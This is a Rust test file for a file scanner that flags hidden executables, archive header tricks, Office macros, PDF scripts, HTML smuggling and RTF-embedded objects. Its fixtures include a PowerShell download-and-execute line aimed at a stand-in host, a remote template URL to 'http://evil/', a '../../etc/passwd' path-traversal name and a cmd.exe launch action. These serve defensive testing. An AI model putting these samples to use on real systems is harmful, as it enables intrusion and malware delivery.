//! What is found in containers, and in containers that lie.

mod make;

use gatepost_scan::{Defect, Entry, Flags, Limits, Report, Verdict, inspect};
use make::{entry, gzip, program, tar, zip};

fn look(data: &[u8], name: &str) -> Report {
    inspect(data, name, "", Limits::default())
}

fn find<'a>(report: &'a Report, name: &str) -> &'a Entry {
    report.entries.iter().find(|entry| entry.name == name).unwrap_or_else(|| panic!("{name} is not in {:#?}", report.entries))
}

fn kind(entry: &Entry) -> &'static str {
    entry.kind.map_or("", |kind| kind.name)
}

#[test]
fn a_program_is_found_however_deep_and_whatever_its_name() {
    let inner = zip(&[entry("holiday.jpg", &program())]);
    let outer = gzip(&tar(&[("inner.zip", &inner)]), "outer.tar");
    let report = look(&outer, "outer.tar.gz");
    assert_eq!(report.verdict, Verdict::Complete);
    let found = find(&report, "holiday.jpg");
    assert_eq!((kind(found), found.depth, found.size), ("pe", 3, 128));
    assert!(found.flags.has(Flags::EXECUTABLE) && found.flags.has(Flags::MISNAMED));
    assert_eq!(kind(find(&report, "outer.tar")), "tar");
}

#[test]
fn an_archive_behind_another_file_is_opened() {
    let archive = zip(&[entry("a.exe", &program())]);
    let mut picture = b"GIF89a\x01\0\x01\0\0\0\0;".to_vec();
    picture.extend_from_slice(&archive);
    let report = look(&picture, "cat.gif");
    assert_eq!(kind(&report.entries[0]), "gif");
    assert!(report.entries[0].defects.contains(&Defect::Prepended) && report.entries[0].flags.has(Flags::CONTAINER));
    assert_eq!(kind(find(&report, "a.exe")), "pe");
}

#[test]
fn headers_that_disagree_are_a_defect_and_both_names_count() {
    let mut lying = entry("readme.txt", b"hello");
    lying.local_name = Some("run.exe".into());
    let report = look(&zip(&[lying]), "a.zip");
    let found = find(&report, "readme.txt");
    assert!(found.defects.contains(&Defect::NamesDiffer) && found.flags.has(Flags::BLOCKED_NAME), "{found:?}");
    assert_eq!(found.signs, ["name:also run.exe"]);
}

#[test]
fn entries_that_the_directory_does_not_list_are_found() {
    let mut hidden = entry("hidden.bin", &program());
    hidden.unlisted = true;
    let report = look(&zip(&[entry("a.txt", b"a"), hidden, entry("b.txt", b"b")]), "a.zip");
    let found = find(&report, "hidden.bin");
    assert_eq!((kind(found), found.defects.as_slice()), ("pe", [Defect::Unlisted].as_slice()));
    assert_eq!(report.entries.len(), 4);
}

#[test]
fn entries_that_share_octets_and_sizes_that_lie_are_defects() {
    let report = look(&make::overlapping(3, b"content"), "a.zip");
    assert!(report.entries[0].defects.contains(&Defect::Overlap));
    let mut lying = entry("a.txt", b"twelve chars");
    lying.size = Some(3);
    assert_eq!(find(&look(&zip(&[lying]), "a.zip"), "a.txt").defects, [Defect::SizeDiffers]);
}

#[test]
fn an_encrypted_entry_is_listed_and_makes_the_verdict_partial() {
    let mut locked = entry("secret.doc", b"????");
    locked.encrypted = true;
    let report = look(&zip(&[locked]), "a.zip");
    assert!(find(&report, "secret.doc").flags.has(Flags::ENCRYPTED));
    assert_eq!(report.verdict, Verdict::Partial);
}

#[test]
fn an_encrypted_file_two_archives_deep_is_encrypted_and_so_are_the_whole_and_its_verdict() {
    let mut locked = entry("secret.txt", b"cannot be read");
    locked.encrypted = true;
    for outer in [zip(&[entry("inner.zip", &zip(&[locked.clone()]))]), tar(&[("inner.zip", &zip(&[locked.clone()]))])] {
        let report = look(&outer, "outer");
        let found = find(&report, "secret.txt");
        assert!(found.flags.has(Flags::ENCRYPTED) && found.depth == 2);
        assert!(report.flags().has(Flags::ENCRYPTED));
        assert_eq!(report.verdict, Verdict::Partial);
    }
}

#[test]
fn streams_of_bzip2_that_begin_and_never_end_are_damage_and_not_all_tried() {
    let report = look(&b"BZh91AY&SY".repeat(100_000), "a.bz2");
    assert_eq!((kind(&report.entries[0]), report.verdict), ("bz2", Verdict::Partial));
}

#[test]
fn a_cut_archive_gives_what_it_has() {
    let whole = zip(&[entry("a.exe", &program()), entry("b.txt", b"b")]);
    let report = look(&whole[..whole.len() - 30], "a.zip");
    assert!(report.entries[0].defects.contains(&Defect::Truncated));
    assert_eq!(kind(find(&report, "a.exe")), "pe");
    assert_eq!(report.verdict, Verdict::Partial);
}

#[test]
fn names_that_leave_the_directory_are_defects() {
    let report = look(&tar(&[("../../etc/passwd", b"x"), ("/abs", b"y"), ("a/b", b"z")]), "a.tar");
    let defects: Vec<bool> = report.entries[1..].iter().map(|entry| entry.defects.contains(&Defect::Escapes)).collect();
    assert_eq!(defects, [true, true, false]);
}

#[test]
fn office_documents_are_told_from_archives() {
    let parts = [entry("[Content_Types].xml", b"<?xml?>"), entry("word/document.xml", b"<?xml?>")];
    let report = look(&zip(&parts), "a.docx");
    assert_eq!((kind(&report.entries[0]), report.entries[0].flags.has(Flags::MACRO)), ("docx", false));
    let mut with_macro = parts.to_vec();
    with_macro.push(entry("word/vbaProject.bin", b"not even one"));
    assert!(look(&zip(&with_macro), "a.docx").entries[0].flags.has(Flags::MACRO));
    let rels = br#"<?xml version="1.0"?><Relationship Type="http://x/attachedTemplate" Target="http://evil/" TargetMode="External"/>"#;
    let mut remote = parts.to_vec();
    remote.push(entry("word/_rels/settings.xml.rels", rels));
    assert!(look(&zip(&remote), "a.docx").flags().has(Flags::LAUNCH));
}

#[test]
fn pdf_names_are_found_escaped_and_in_object_streams() {
    let plain = b"%PDF-1.7\n1 0 obj <</OpenAction <</S /Java#53cript /JS (app.alert(1))>> >> endobj";
    let report = look(plain, "a.pdf");
    assert!(report.entries[0].flags.has(Flags::SCRIPT) && report.entries[0].flags.has(Flags::AUTORUN), "{report:?}");
    assert!(report.entries[0].signs.contains(&"pdf:hidden-name".to_owned()));
    let inside = miniz_oxide::deflate::compress_to_vec_zlib(b"1 0 <</S /Launch /F (cmd.exe)>>", 6);
    let mut packed =
        format!("%PDF-1.7\n1 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {}>>\nstream\n", inside.len()).into_bytes();
    packed.extend_from_slice(&inside);
    packed.extend_from_slice(b"\nendstream endobj");
    assert!(look(&packed, "a.pdf").entries[0].flags.has(Flags::LAUNCH));
    assert!(!look(b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj", "a.pdf").flags().has(Flags::SCRIPT));
}

#[test]
fn scripts_and_shortcuts_are_told_by_content() {
    let of = |data: &[u8]| look(data, "attachment").entries[0].kind.map_or("", |kind| kind.name);
    assert_eq!(of(b"#!/bin/sh\necho hello\n"), "sh");
    assert_eq!(of(b"$x = New-Object Net.WebClient; Invoke-Expression $x.DownloadString('http://x')"), "ps1");
    assert_eq!(of(b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n"), "vbs");
    assert_eq!(of(b"@echo off\r\ndel x\r\n"), "bat");
    assert_eq!(of(b"[InternetShortcut]\r\nURL=file://x/y.exe\r\n"), "url");
    assert_eq!(of(b"\x7fELF\x02\x01\x01\0"), "elf");
    assert_eq!(of(b"Dear all,\r\nplease find the minutes attached.\r\n"), "text");
    let wide: Vec<u8> = "\u{feff}@echo off\r\ndel x".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(of(&wide), "bat");
}

#[test]
fn a_page_that_hands_out_a_file_of_its_own_is_opened() {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let content = zip(&[entry("run.exe", &program()), entry("pad.txt", &(0u8..=255).collect::<Vec<u8>>())]);
    let text: String = content
        .chunks(3)
        .flat_map(|group| {
            let bits = (0..3).fold(0u32, |bits, at| bits << 8 | u32::from(group.get(at).copied().unwrap_or(0)));
            (0..4).map(move |at| char::from(DIGITS[(bits >> (18 - 6 * at) & 63) as usize]))
        })
        .collect();
    let page = format!("<html><script>var b=new Blob([atob('{text}')]);</script></html>");
    let report = look(page.as_bytes(), "invoice.html");
    assert!(report.entries[0].flags.has(Flags::SMUGGLES) && report.entries[0].flags.has(Flags::SCRIPT));
    assert_eq!(kind(find(&report, "run.exe")), "pe");
}

#[test]
fn every_part_of_a_message_is_looked_at_under_every_name() {
    let mail = b"From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhello\r\n--x\r\n\
        Content-Type: application/pdf; name=run.exe\r\nContent-Disposition: attachment; filename*0*=utf-8''invo; filename*1=ice.pdf\r\n\
        Content-Transfer-Encoding: base64\r\n\r\nUEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==\r\n--x\r\n\r\nbegin 644 a.txt\r\n#86)C\r\n`\r\nend\r\n--x--\r\n";
    let report = look(mail, "message.eml");
    let found = find(&report, "invoice.pdf");
    assert_eq!((kind(found), found.declared.as_str()), ("zip", "application/pdf"));
    assert!(found.flags.has(Flags::BLOCKED_NAME) && found.flags.has(Flags::MISNAMED));
    assert_eq!(find(&report, "a.txt").size, 3);
}

#[test]
fn a_package_in_rtf_gives_the_file_that_it_carries() {
    let counted = |text: &[u8]| [&(text.len() as u32).to_le_bytes()[..], text].concat();
    let inner = [&b"\x02\0p.com\0C:\\p.com\0\0\0\x03\0"[..], &counted(b"C:\\p.com\0"), &counted(b"core of it")].concat();
    let object = [&[1u8, 5, 0, 0, 2, 0, 0, 0][..], &counted(b"Package\0"), &[0; 8], &counted(&inner)].concat();
    let hex: String =
        object.iter().flat_map(|octet| [octet >> 4, octet & 15]).filter_map(|digit| char::from_digit(digit.into(), 16)).collect();
    let report = look(format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {hex}}}}}}}").as_bytes(), "a.rtf");
    assert_eq!((report.entries[1].name.as_str(), report.entries[1].size), ("p.com", 10));
    // What only calls itself a package is looked at as it is.
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus/scan/object.rtf");
    let report = look(&std::fs::read(corpus).unwrap(), "object.rtf");
    assert_eq!((report.entries[1].name.as_str(), kind(&report.entries[1])), ("object", "pe"));
}

#[test]
fn lzma_is_known_by_its_header_and_lzip_is_opened() {
    // "core of it\n" as `xz --format=lzma` and `lzip` write it.
    let alone =
        b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x31\x9b\xca\xaa\xe4\xbb\xbb\0\x29\xe1\xe9\xfd\x0d\xd1\xd1\x7f\xff\xe0\xa1\x80\0";
    let report = look(alone, "attachment");
    assert_eq!(kind(&report.entries[0]), "lzma");
    let any_dictionary = [&alone[..1], &[0xff; 4], &alone[5..]].concat();
    assert_eq!((kind(&look(&any_dictionary, "attachment").entries[0]), look(&any_dictionary, "attachment").entries[1].size), ("lzma", 11));
    let lzip = [&b"LZIP\x01\x17"[..], &alone[13..], &[0; 20]].concat();
    assert_eq!((report.entries[1].size, look(&lzip, "attachment").entries[1].size), (11, 11));
    // What only begins alike is no LZMA.
    for (at, octet) in [(0, 225), (2, 1), (12, 9), (13, 1)] {
        let mut other = alone.to_vec();
        other[at] = octet;
        assert_ne!(kind(&look(&other, "attachment").entries[0]), "lzma", "{at}");
    }
}

#[test]
fn a_link_to_a_file_in_the_page_is_seen_however_it_is_written() {
    for link in [
        "<a href=\"data:application/x;base64,QUJD\">",
        "<a href=\"d&#97;ta&#x3a;application/x;base64,QUJD\">",
        "<a href='data&colon;application/x;base64,QUJD'>",
        "<a href=\"da\tta:application/x;base64,QUJD\">",
        "<object data=\"data:application/x;base64,QUJD\">",
        "<iframe src='data:text/html,hello'>",
    ] {
        for filling in [0, 10, (1 << 20) - 10] {
            let page = format!("<html><body>{}{link}</body></html>", " ".repeat(filling));
            assert!(look(page.as_bytes(), "a.html").entries[0].flags.has(Flags::SMUGGLES), "{link} {filling}");
        }
    }
    let harmless = "<html><body><a href=\"https://x.test/?a=1&#38;b=data:\">data: <img src=\"data:image/png;base64,QUJD\"></body></html>";
    assert!(!look(harmless.as_bytes(), "a.html").entries[0].flags.has(Flags::SMUGGLES));
}

#[test]
fn files_in_cards_are_opened_in_each_way_to_write_them() {
    let digits = "VFZxUUFBTUFBQUFFQUFBQTs7QUFBTGdBQUFBQUFBQUE=";
    for property in ["ATTACH;VALUE=BINARY;encoding=\"base64\":", "ATTACH:data:application/x;base64,", "PHOTO:data:image/png;base64\\,"] {
        let report = look(format!("Subject: x\r\nFrom: a@x.test\r\nContent-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\r\n{property}{digits}\r\nEND:VCALENDAR\r\n").as_bytes(), "m.eml");
        assert!(report.entries.iter().any(|entry| entry.size == 32), "{property}");
    }
}

#[test]
fn the_compound_file_in_word_s_wrapper_is_opened() {
    let inner = [&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &[0; 600]].concat();
    let packed = miniz_oxide::deflate::compress_to_vec_zlib(&inner, 6);
    let report = look(&[&b"ActiveMime"[..], &[0; 40], &packed].concat(), "editdata.mso");
    assert_eq!((kind(&report.entries[0]), report.entries[1].size), ("mso", 608));
}

#[test]
fn an_object_in_rtf_is_opened_however_its_hex_is_broken_up() {
    let hex = program().iter().fold(String::new(), |text, octet| text + &format!("{octet:02x}\r\n"));
    let text = format!("{{\\rtf1{{\\object\\objupdate{{\\*\\objdata {{\\*\\x beef}}{}\\foo12 {}}}}}}}", &hex[..40], &hex[40..]);
    let report = look(text.as_bytes(), "a.doc");
    assert_eq!(kind(find(&report, "object")), "pe");
    assert!(report.entries[0].flags.has(Flags::EMBEDS) && report.entries[0].flags.has(Flags::LAUNCH));
}

#[test]
fn script_far_behind_the_beginning_of_a_page_is_found() {
    let page = format!("<html>{}<SCRIPT>x</script>", " ".repeat(3_000_000));
    assert!(look(page.as_bytes(), "a.html").entries[0].flags.has(Flags::SCRIPT));
}

#[test]
fn text_that_quotes_messages_is_text_and_a_file_that_is_one_is_opened() {
    let quoted = "From: a@b\r\nTo: c@d\r\n\r\n".repeat(40);
    let report = look(quoted.as_bytes(), "m.eml");
    assert_eq!((report.verdict, report.entries.len()), (Verdict::Complete, 2));
    let mail = format!("From: a@b\r\nContent-Type: application/octet-stream\r\n\r\nFrom: a@b\r\nTo: c@d\r\n{}", "\r\nhello\r\n");
    assert_eq!(look(mail.as_bytes(), "m.eml").entries.len(), 3);
}
